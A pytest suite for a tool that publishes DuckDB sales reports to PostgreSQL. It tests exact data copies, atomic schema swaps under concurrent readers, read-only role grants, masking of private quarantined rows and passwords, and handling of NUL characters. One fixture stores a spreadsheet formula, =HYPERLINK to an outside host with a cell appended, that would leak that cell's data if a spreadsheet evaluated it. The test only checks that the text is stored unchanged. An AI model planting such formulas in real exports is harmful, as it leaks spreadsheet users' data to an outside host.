"""Publishing to PostgreSQL: the same rows and exact money, real types and comments, an atomic swap."""

from __future__ import annotations

import re
import threading
import time
from datetime import UTC, datetime
from decimal import Decimal

import psycopg
import pytest

from salesglass.errors import SalesglassError
from salesglass.outputs.publish import publish_postgres
from salesglass.warehouse import connect
from tests.outputs.conftest import make_published

pytestmark = pytest.mark.postgres


def _pg(url):
    return psycopg.connect(url, autocommit=True)


@pytest.fixture
def schema(postgres_url, request):
    name = "sg_" + request.node.name.replace("test_", "")[:40].lower()
    yield name
    with _pg(postgres_url) as pg:
        for (s,) in pg.execute("SELECT nspname FROM pg_namespace WHERE nspname LIKE %s", [name + "%"]).fetchall():
            pg.execute(f'DROP SCHEMA "{s}" CASCADE')


def test_published_tables_equal_the_duckdb_ones(tmp_path, postgres_url, schema):
    path = make_published(tmp_path / "reports.duckdb")
    summary = publish_postgres(path, postgres_url, schema)
    con = connect(path, read_only=True)
    expected_counts = {t: con.execute(f'SELECT count(*) FROM "{t}"').fetchone()[0] for t in summary.tables}
    assert set(summary.tables) >= {
        "sales",
        "partners",
        "managers",
        "deals",
        "pipelines",
        "report_declining_partners",
        "report_plan_fact",
        "build_info",
    }
    assert summary.tables == expected_counts and summary.tables["sales"] == 41
    duck_sums = con.execute("SELECT sum(turnover), sum(revenue), sum(cost), sum(tickets) FROM sales").fetchone()
    duck_partner = con.execute("SELECT * FROM partners ORDER BY partner_id").fetchall()
    duck_sale = con.execute("SELECT * FROM sales WHERE sale_id = 'r1'").fetchone()
    con.close()
    with _pg(postgres_url) as pg:
        for table, rows in expected_counts.items():
            assert pg.execute(f'SELECT count(*) FROM {schema}."{table}"').fetchone()[0] == rows, table
        pg_sums = pg.execute(
            f"SELECT sum(turnover), sum(revenue), sum(cost), sum(tickets) FROM {schema}.sales"
        ).fetchone()
        assert pg_sums == duck_sums
        assert isinstance(pg_sums[0], Decimal)
        assert pg.execute(f"SELECT * FROM {schema}.partners ORDER BY partner_id").fetchall() == duck_partner
        assert pg.execute(f"SELECT * FROM {schema}.sales WHERE sale_id = 'r1'").fetchone() == duck_sale
        # NULL stays NULL; the quoted comma-and-quote name survives the CSV stream
        assert pg.execute(f"SELECT name, inn FROM {schema}.partners WHERE partner_id = 'p2'").fetchone() == (
            "Кассы Севера",
            None,
        )
        assert pg.execute(f"SELECT name FROM {schema}.partners WHERE partner_id = 'p1'").fetchone()[0] == (
            'ООО "Театр, на Неглинной"'
        )
        # amoCRM pipelines by name reach BI tools as typed (markup, emoji, quotes), with their order
        assert pg.execute(
            f"SELECT pipeline_id, name, sort, is_archive FROM {schema}.pipelines ORDER BY sort"
        ).fetchall() == [
            (7004411, "Продажи", 1, False),
            (7004412, '<b>Партнёры</b> 🤝 «Юг», "опт"', 2, True),
        ]
        types = dict(
            pg.execute(
                "SELECT table_name || '.' || column_name, format_type(a.atttypid, a.atttypmod) FROM "
                "information_schema.columns c JOIN pg_attribute a ON a.attrelid = (quote_ident(c.table_schema) || '.' "
                "|| quote_ident(c.table_name))::regclass AND a.attname = c.column_name WHERE c.table_schema = %s",
                [schema],
            ).fetchall()
        )
        assert types["sales.turnover"] == "numeric(18,2)"
        assert types["sales.sold_at"] == "timestamp with time zone"
        assert types["sales.tickets"] == "integer"
        assert types["report_plan_fact.period_start"] == "date"
        assert types["report_plan_fact.is_complete"] == "boolean"
        assert types["deals.deal_id"] == "bigint"
        assert types["quarantine.seen_at"] == "timestamp with time zone" and "quarantine.raw" not in types
        comment = pg.execute(f"SELECT col_description('{schema}.sales'::regclass, 6)").fetchone()[0]
        assert comment == "gross ticket money; negative for a refund"
        assert (
            pg.execute(f"SELECT col_description('{schema}.report_declining_partners'::regclass, 7)").fetchone()[0]
            == "turnover in the 28 days ending on as_of"
        )
        assert (
            pg.execute(f"SELECT obj_description('{schema}.report_plan_fact'::regclass)")
            .fetchone()[0]
            .startswith("Plan vs fact")
        )
        assert (
            pg.execute("SELECT count(*) FROM pg_namespace WHERE nspname LIKE %s", [schema + "\\_\\_%"]).fetchone()[0]
            == 0
        )


def test_swap_is_atomic_for_readers(tmp_path, postgres_url, schema):
    publish_postgres(make_published(tmp_path / "v1.duckdb", label="v1"), postgres_url, schema)
    v2 = make_published(tmp_path / "v2.duckdb", label="v2", extra_sales=10)
    reader = psycopg.connect(postgres_url)  # a BI reader in the middle of a transaction
    reader.execute("BEGIN ISOLATION LEVEL REPEATABLE READ")
    assert reader.execute(f"SELECT label FROM {schema}.build_info").fetchone() == ("v1",)
    # the reader has read the tables it reports on (touching a new one mid-swap could deadlock, and
    # PostgreSQL would then cancel one side — a BI tool retries its query)
    assert reader.execute(f"SELECT count(*) FROM {schema}.sales").fetchone() == (41,)
    done: list[object] = []
    publisher = threading.Thread(target=lambda: done.append(publish_postgres(v2, postgres_url, schema)))
    publisher.start()
    # v2 is loaded and the swap waits for the reader's lock: seen in PostgreSQL, not assumed after a fixed sleep
    # (a loaded machine may take longer than any sleep to load v2, and the test would prove nothing)
    deadline = time.monotonic() + 120
    with _pg(postgres_url) as watcher:  # its own connection: inside the reader's transaction the view stands still
        while not watcher.execute(
            "SELECT count(*) FROM pg_stat_activity WHERE wait_event_type = 'Lock' AND datname = current_database()"
        ).fetchone()[0]:
            assert time.monotonic() < deadline and not done, "the publisher never waited for the reader"
            time.sleep(0.05)
    assert not done
    assert reader.execute(f"SELECT label FROM {schema}.build_info").fetchone() == ("v1",)
    assert reader.execute(f"SELECT count(*) FROM {schema}.sales").fetchone() == (41,)
    reader.execute("COMMIT")
    publisher.join(30)
    assert done and done[0].replaced_previous
    with _pg(postgres_url) as pg:  # a new reader sees the whole new publish
        assert pg.execute(f"SELECT label FROM {schema}.build_info").fetchone() == ("v2",)
        assert pg.execute(f"SELECT count(*) FROM {schema}.sales").fetchone() == (51,)
        assert (
            pg.execute("SELECT count(*) FROM pg_namespace WHERE nspname LIKE %s", [schema + "\\_\\_%"]).fetchone()[0]
            == 0
        )
    reader.close()


def test_a_bi_tool_polling_during_a_publish_never_sees_an_empty_or_half_table(tmp_path, postgres_url, schema):
    """A dashboard refreshing every moment (autocommit queries, prepared after a few runs as JDBC and psycopg
    do) while a publish replaces the schema: each answer is the whole old or the whole new publish."""
    publish_postgres(make_published(tmp_path / "v1.duckdb", label="v1"), postgres_url, schema)
    v2 = make_published(tmp_path / "v2.duckdb", label="v2", extra_sales=10)
    answers: list[tuple] = []
    errors: list[str] = []
    done = threading.Event()

    def poll() -> None:
        with _pg(postgres_url) as bi:
            while not done.is_set() or len(answers) < 20:
                try:
                    answers.append(
                        bi.execute(
                            f"SELECT (SELECT label FROM {schema}.build_info), (SELECT count(*) FROM {schema}.sales)"
                        ).fetchone()
                    )
                except psycopg.Error as exc:
                    errors.append(str(exc))
                time.sleep(0.002)  # a reader at a time, leaving the publisher the interpreter in between

    reader = threading.Thread(target=poll)
    reader.start()
    try:
        while len(answers) < 5:  # the reader is in its stride before the publish starts
            time.sleep(0.01)
        publish_postgres(v2, postgres_url, schema)
    finally:
        done.set()
        reader.join(30)
    assert errors == []
    assert set(answers) == {("v1", 41), ("v2", 51)}, set(answers)
    assert answers[-1] == ("v2", 51)


def test_a_swap_waiting_for_a_long_reader_does_not_stall_the_other_bi_queries(tmp_path, postgres_url, schema):
    """While the swap waits for a long report query to end, every new query on those tables queues behind
    the swap's lock: one long try (up to swap_wait_seconds) froze a whole BI dashboard that long. Short tries
    let them through in between."""
    publish_postgres(make_published(tmp_path / "v1.duckdb", label="v1"), postgres_url, schema)
    v2 = make_published(tmp_path / "v2.duckdb", label="v2", extra_sales=10)
    long_report = psycopg.connect(postgres_url)
    long_report.execute(f"SELECT count(*) FROM {schema}.sales")  # its transaction holds the table
    done: list[object] = []
    publisher = threading.Thread(target=lambda: done.append(publish_postgres(v2, postgres_url, schema)))
    publisher.start()
    try:
        with _pg(postgres_url) as watch:
            for _ in range(300):  # the swap is waiting for the long report
                if watch.execute(
                    "SELECT count(*) FROM pg_locks WHERE NOT granted AND mode = 'AccessExclusiveLock'"
                ).fetchone()[0]:
                    break
                time.sleep(0.05)
            else:
                pytest.fail("the publish never waited for the reader")
        with _pg(postgres_url) as dashboard:
            dashboard.execute("SET statement_timeout = '8s'")  # far above one try (1 s), far below the wait (60 s)
            assert dashboard.execute(f"SELECT count(*) FROM {schema}.sales").fetchone() == (41,)
            assert dashboard.execute(f"SELECT label FROM {schema}.build_info").fetchone() == ("v1",)
        assert not done
    finally:
        long_report.close()
        publisher.join(30)
    assert done and done[0].replaced_previous


def test_a_reader_holding_on_too_long_keeps_the_old_publish(tmp_path, postgres_url, schema):
    publish_postgres(make_published(tmp_path / "v1.duckdb", label="v1"), postgres_url, schema)
    reader = psycopg.connect(postgres_url)
    reader.execute(f"SELECT 1 FROM {schema}.build_info")  # an open transaction holding the table
    try:
        with pytest.raises(SalesglassError, match="busy for more than 1 s; the previous publish stays"):
            publish_postgres(
                make_published(tmp_path / "v2.duckdb", label="v2"), postgres_url, schema, swap_wait_seconds=1
            )
    finally:
        reader.close()
    with _pg(postgres_url) as pg:
        assert pg.execute(f"SELECT label FROM {schema}.build_info").fetchone() == ("v1",)
        assert (
            pg.execute("SELECT count(*) FROM pg_namespace WHERE nspname LIKE %s", [schema + "\\_\\_%"]).fetchone()[0]
            == 0
        )


def test_read_only_role_is_granted_on_every_publish(tmp_path, postgres_url, schema):
    with _pg(postgres_url) as pg:
        pg.execute("DO $$ BEGIN CREATE ROLE bi_reader LOGIN; EXCEPTION WHEN duplicate_object THEN NULL; END $$")
    for label in ("v1", "v2"):
        publish_postgres(
            make_published(tmp_path / f"{label}.duckdb", label=label),
            postgres_url,
            schema,
            grant_select_to=["bi_reader"],
        )
    with _pg(postgres_url.replace("postgres@", "bi_reader@")) as bi:
        assert bi.execute(f"SELECT label FROM {schema}.build_info").fetchone() == ("v2",)
        with pytest.raises(psycopg.errors.InsufficientPrivilege):
            bi.execute(f"DELETE FROM {schema}.sales")


def test_the_bi_role_cannot_read_the_raw_text_of_quarantined_rows(tmp_path, postgres_url, schema):
    """A rejected source row's raw text may carry a contact's name, phone and e-mail; the BI role, granted every
    published table, gets why and where a row was set aside, never the row itself (docs/bi-tools.md)."""
    with _pg(postgres_url) as pg:
        pg.execute("DO $$ BEGIN CREATE ROLE bi_reader LOGIN; EXCEPTION WHEN duplicate_object THEN NULL; END $$")
    path = make_published(tmp_path / "r.duckdb")
    con = connect(path)
    con.execute(
        "INSERT INTO quarantine VALUES ('platform:partners', 'partners', 'p9', 'missing name', "
        '\'{"contact": "Ирина Смирнова", "phone": "+7 913 555-01-02", "email": "irina@mail.ru"}\', '
        "TIMESTAMPTZ '2026-03-14 08:00:00+00')"
    )
    con.close()
    summary = publish_postgres(path, postgres_url, schema, grant_select_to=["bi_reader"])
    assert summary.tables["quarantine"] == 1
    with _pg(postgres_url.replace("postgres@", "bi_reader@")) as bi:
        assert bi.execute(f"SELECT * FROM {schema}.quarantine").fetchall() == [
            ("platform:partners", "partners", "p9", "missing name", datetime(2026, 3, 14, 8, tzinfo=UTC))
        ]
        with pytest.raises(psycopg.errors.UndefinedColumn):
            bi.execute(f"SELECT raw FROM {schema}.quarantine")
        # nowhere else in what the role may read either: every text of every table, searched
        found = []
        for (table,) in bi.execute("SELECT tablename FROM pg_tables WHERE schemaname = %s", [schema]).fetchall():
            hits = bi.execute(
                f'SELECT count(*) FROM {schema}."{table}" t WHERE t::text ~ %s', ["913 555|irina@|Смирнова"]
            )
            found += [table] * hits.fetchone()[0]
        assert found == []


def test_errors_name_the_problem_without_the_password(tmp_path):
    with pytest.raises(SalesglassError, match="no published reports"):
        publish_postgres(tmp_path / "missing.duckdb", "postgresql://u:pw@127.0.0.1:1/db")
    path = make_published(tmp_path / "r.duckdb")
    with pytest.raises(SalesglassError) as err:
        publish_postgres(path, "postgresql://u:topsecret@127.0.0.1:1/db")
    assert "topsecret" not in str(err.value) and "u:***@127.0.0.1:1" in str(err.value)


def test_a_view_built_on_the_old_publish_is_kept_working_and_reported(tmp_path, postgres_url, schema):
    publish_postgres(make_published(tmp_path / "v1.duckdb", label="v1"), postgres_url, schema)
    with _pg(postgres_url) as pg:
        pg.execute(f"CREATE SCHEMA IF NOT EXISTS {schema}_mine")
        pg.execute(f"CREATE VIEW {schema}_mine.labels AS SELECT label FROM {schema}.build_info")
    try:
        summary = publish_postgres(make_published(tmp_path / "v2.duckdb", label="v2"), postgres_url, schema)
        assert len(summary.warnings) == 1 and f"{schema}_mine.labels" in summary.warnings[0]
        with _pg(postgres_url) as pg:
            assert pg.execute(f"SELECT label FROM {schema}.build_info").fetchone() == ("v2",)
            assert pg.execute(f"SELECT label FROM {schema}_mine.labels").fetchone() == ("v1",)  # not dropped
    finally:
        with _pg(postgres_url) as pg:
            pg.execute(f"DROP SCHEMA {schema}_mine CASCADE")


def test_old_publish_views_nag(tmp_path, postgres_url, schema):
    """A view on an earlier publish keeps it alive and shows its old data: every later publish says so (not
    only the first), and once the view is recreated on the schema the old copy goes."""
    publish_postgres(make_published(tmp_path / "v1.duckdb", label="v1"), postgres_url, schema)
    mine = f"{schema}_mine"
    with _pg(postgres_url) as pg:
        pg.execute(f"CREATE SCHEMA {mine}")
        pg.execute(f"CREATE VIEW {mine}.labels AS SELECT label FROM {schema}.build_info")
    try:
        second = publish_postgres(make_published(tmp_path / "v2.duckdb", label="v2"), postgres_url, schema)
        third = publish_postgres(make_published(tmp_path / "v3.duckdb", label="v3"), postgres_url, schema)
        assert len(second.warnings) == 1 and f"{mine}.labels" in second.warnings[0]
        assert len(third.warnings) == 1 and f"{mine}.labels" in third.warnings[0], third.warnings
        old = second.kept_schema
        assert old and old in third.warnings[0] and "old data" in third.warnings[0]
        with _pg(postgres_url) as pg:
            assert pg.execute(f"SELECT label FROM {mine}.labels").fetchone() == ("v1",)
            pg.execute(f"CREATE OR REPLACE VIEW {mine}.labels AS SELECT label FROM {schema}.build_info")
        fourth = publish_postgres(make_published(tmp_path / "v4.duckdb", label="v4"), postgres_url, schema)
        # v3 is what the view reads now: the warning names v3's copy only (compared as whole names: within one
        # second the copies are `…__old_<time>` and `…__old_<time>_2`, and one is a substring of the other)
        named = set(re.findall(rf"{schema}__old_\w+", fourth.warnings[0]))
        assert len(fourth.warnings) == 1 and named == {fourth.kept_schema} and old not in named
        with _pg(postgres_url) as pg:
            assert pg.execute(f"SELECT label FROM {mine}.labels").fetchone() == ("v3",)
            kept = pg.execute("SELECT nspname FROM pg_namespace WHERE nspname LIKE %s", [schema + "\\_\\_%"])
            assert [r[0] for r in kept.fetchall()] == [fourth.kept_schema]  # v1's copy is gone
    finally:
        with _pg(postgres_url) as pg:
            pg.execute(f"DROP SCHEMA {mine} CASCADE")


def test_a_nul_character_in_a_name_does_not_fail_the_publish(tmp_path, postgres_url, schema):
    """amoCRM's JSON may carry `\\u0000` in a name; PostgreSQL's text and jsonb refuse NUL, so one such name
    failed the whole publish. It arrives as U+FFFD, as in the Excel downloads; everything else as it was."""
    path = make_published(tmp_path / "r.duckdb")
    con = connect(path)
    con.execute("UPDATE partners SET name = 'Театр' || chr(0) || '\\N,\"x\"' WHERE partner_id = 'p2'")
    con.execute("""UPDATE partners SET name = '=HYPERLINK("http://x.ru/?"&A1)' WHERE partner_id = 'p1'""")
    con.execute("CREATE TABLE report_payloads (payload JSON)")  # a JSON column: jsonb in PostgreSQL
    con.execute('INSERT INTO report_payloads VALUES (\'{"name": "a\\u0000b"}\')')
    con.close()
    summary = publish_postgres(path, postgres_url, schema)
    assert summary.tables["partners"] == 2 and summary.tables["report_payloads"] == 1
    with _pg(postgres_url) as pg:
        assert pg.execute(f"SELECT name FROM {schema}.partners WHERE partner_id = 'p2'").fetchone() == (
            'Театр\ufffd\\N,"x"',
        )
        assert pg.execute(f"SELECT payload ->> 'name' FROM {schema}.report_payloads").fetchone() == ("a\ufffdb",)
        # text as it is, formula-looking too: PostgreSQL holds data (docs/bi-tools.md says who escapes it)
        assert pg.execute(f"SELECT name FROM {schema}.partners WHERE partner_id = 'p1'").fetchone() == (
            '=HYPERLINK("http://x.ru/?"&A1)',
        )


def test_a_publishing_user_without_rights_or_a_missing_bi_role_is_told_what_to_do(tmp_path, postgres_url, schema):
    """A newcomer who skipped a step of docs/bi-tools.md gets the step, not a psycopg traceback; the previous
    publish stays."""
    path = make_published(tmp_path / "r.duckdb")
    publish_postgres(path, postgres_url, schema)
    with _pg(postgres_url) as pg:
        pg.execute("DO $$ BEGIN CREATE ROLE sg_no_rights LOGIN; EXCEPTION WHEN duplicate_object THEN NULL; END $$")
    with pytest.raises(SalesglassError, match="user sg_no_rights may not publish into database salesglass: "):
        publish_postgres(path, postgres_url.replace("postgres@", "sg_no_rights@"), schema)
    with pytest.raises(SalesglassError, match="GRANT CREATE ON DATABASE salesglass TO sg_no_rights"):
        publish_postgres(path, postgres_url.replace("postgres@", "sg_no_rights@"), schema)
    with pytest.raises(SalesglassError, match="grant_select_to names role 'bi_typo', which PostgreSQL does not"):
        publish_postgres(path, postgres_url, schema, grant_select_to=["bi_typo"])
    with _pg(postgres_url) as pg:
        assert pg.execute(f"SELECT label FROM {schema}.build_info").fetchone() == ("v1",)
        leftovers = pg.execute("SELECT count(*) FROM pg_namespace WHERE nspname LIKE %s", [schema + "\\_\\_%"])
        assert leftovers.fetchone()[0] == 0
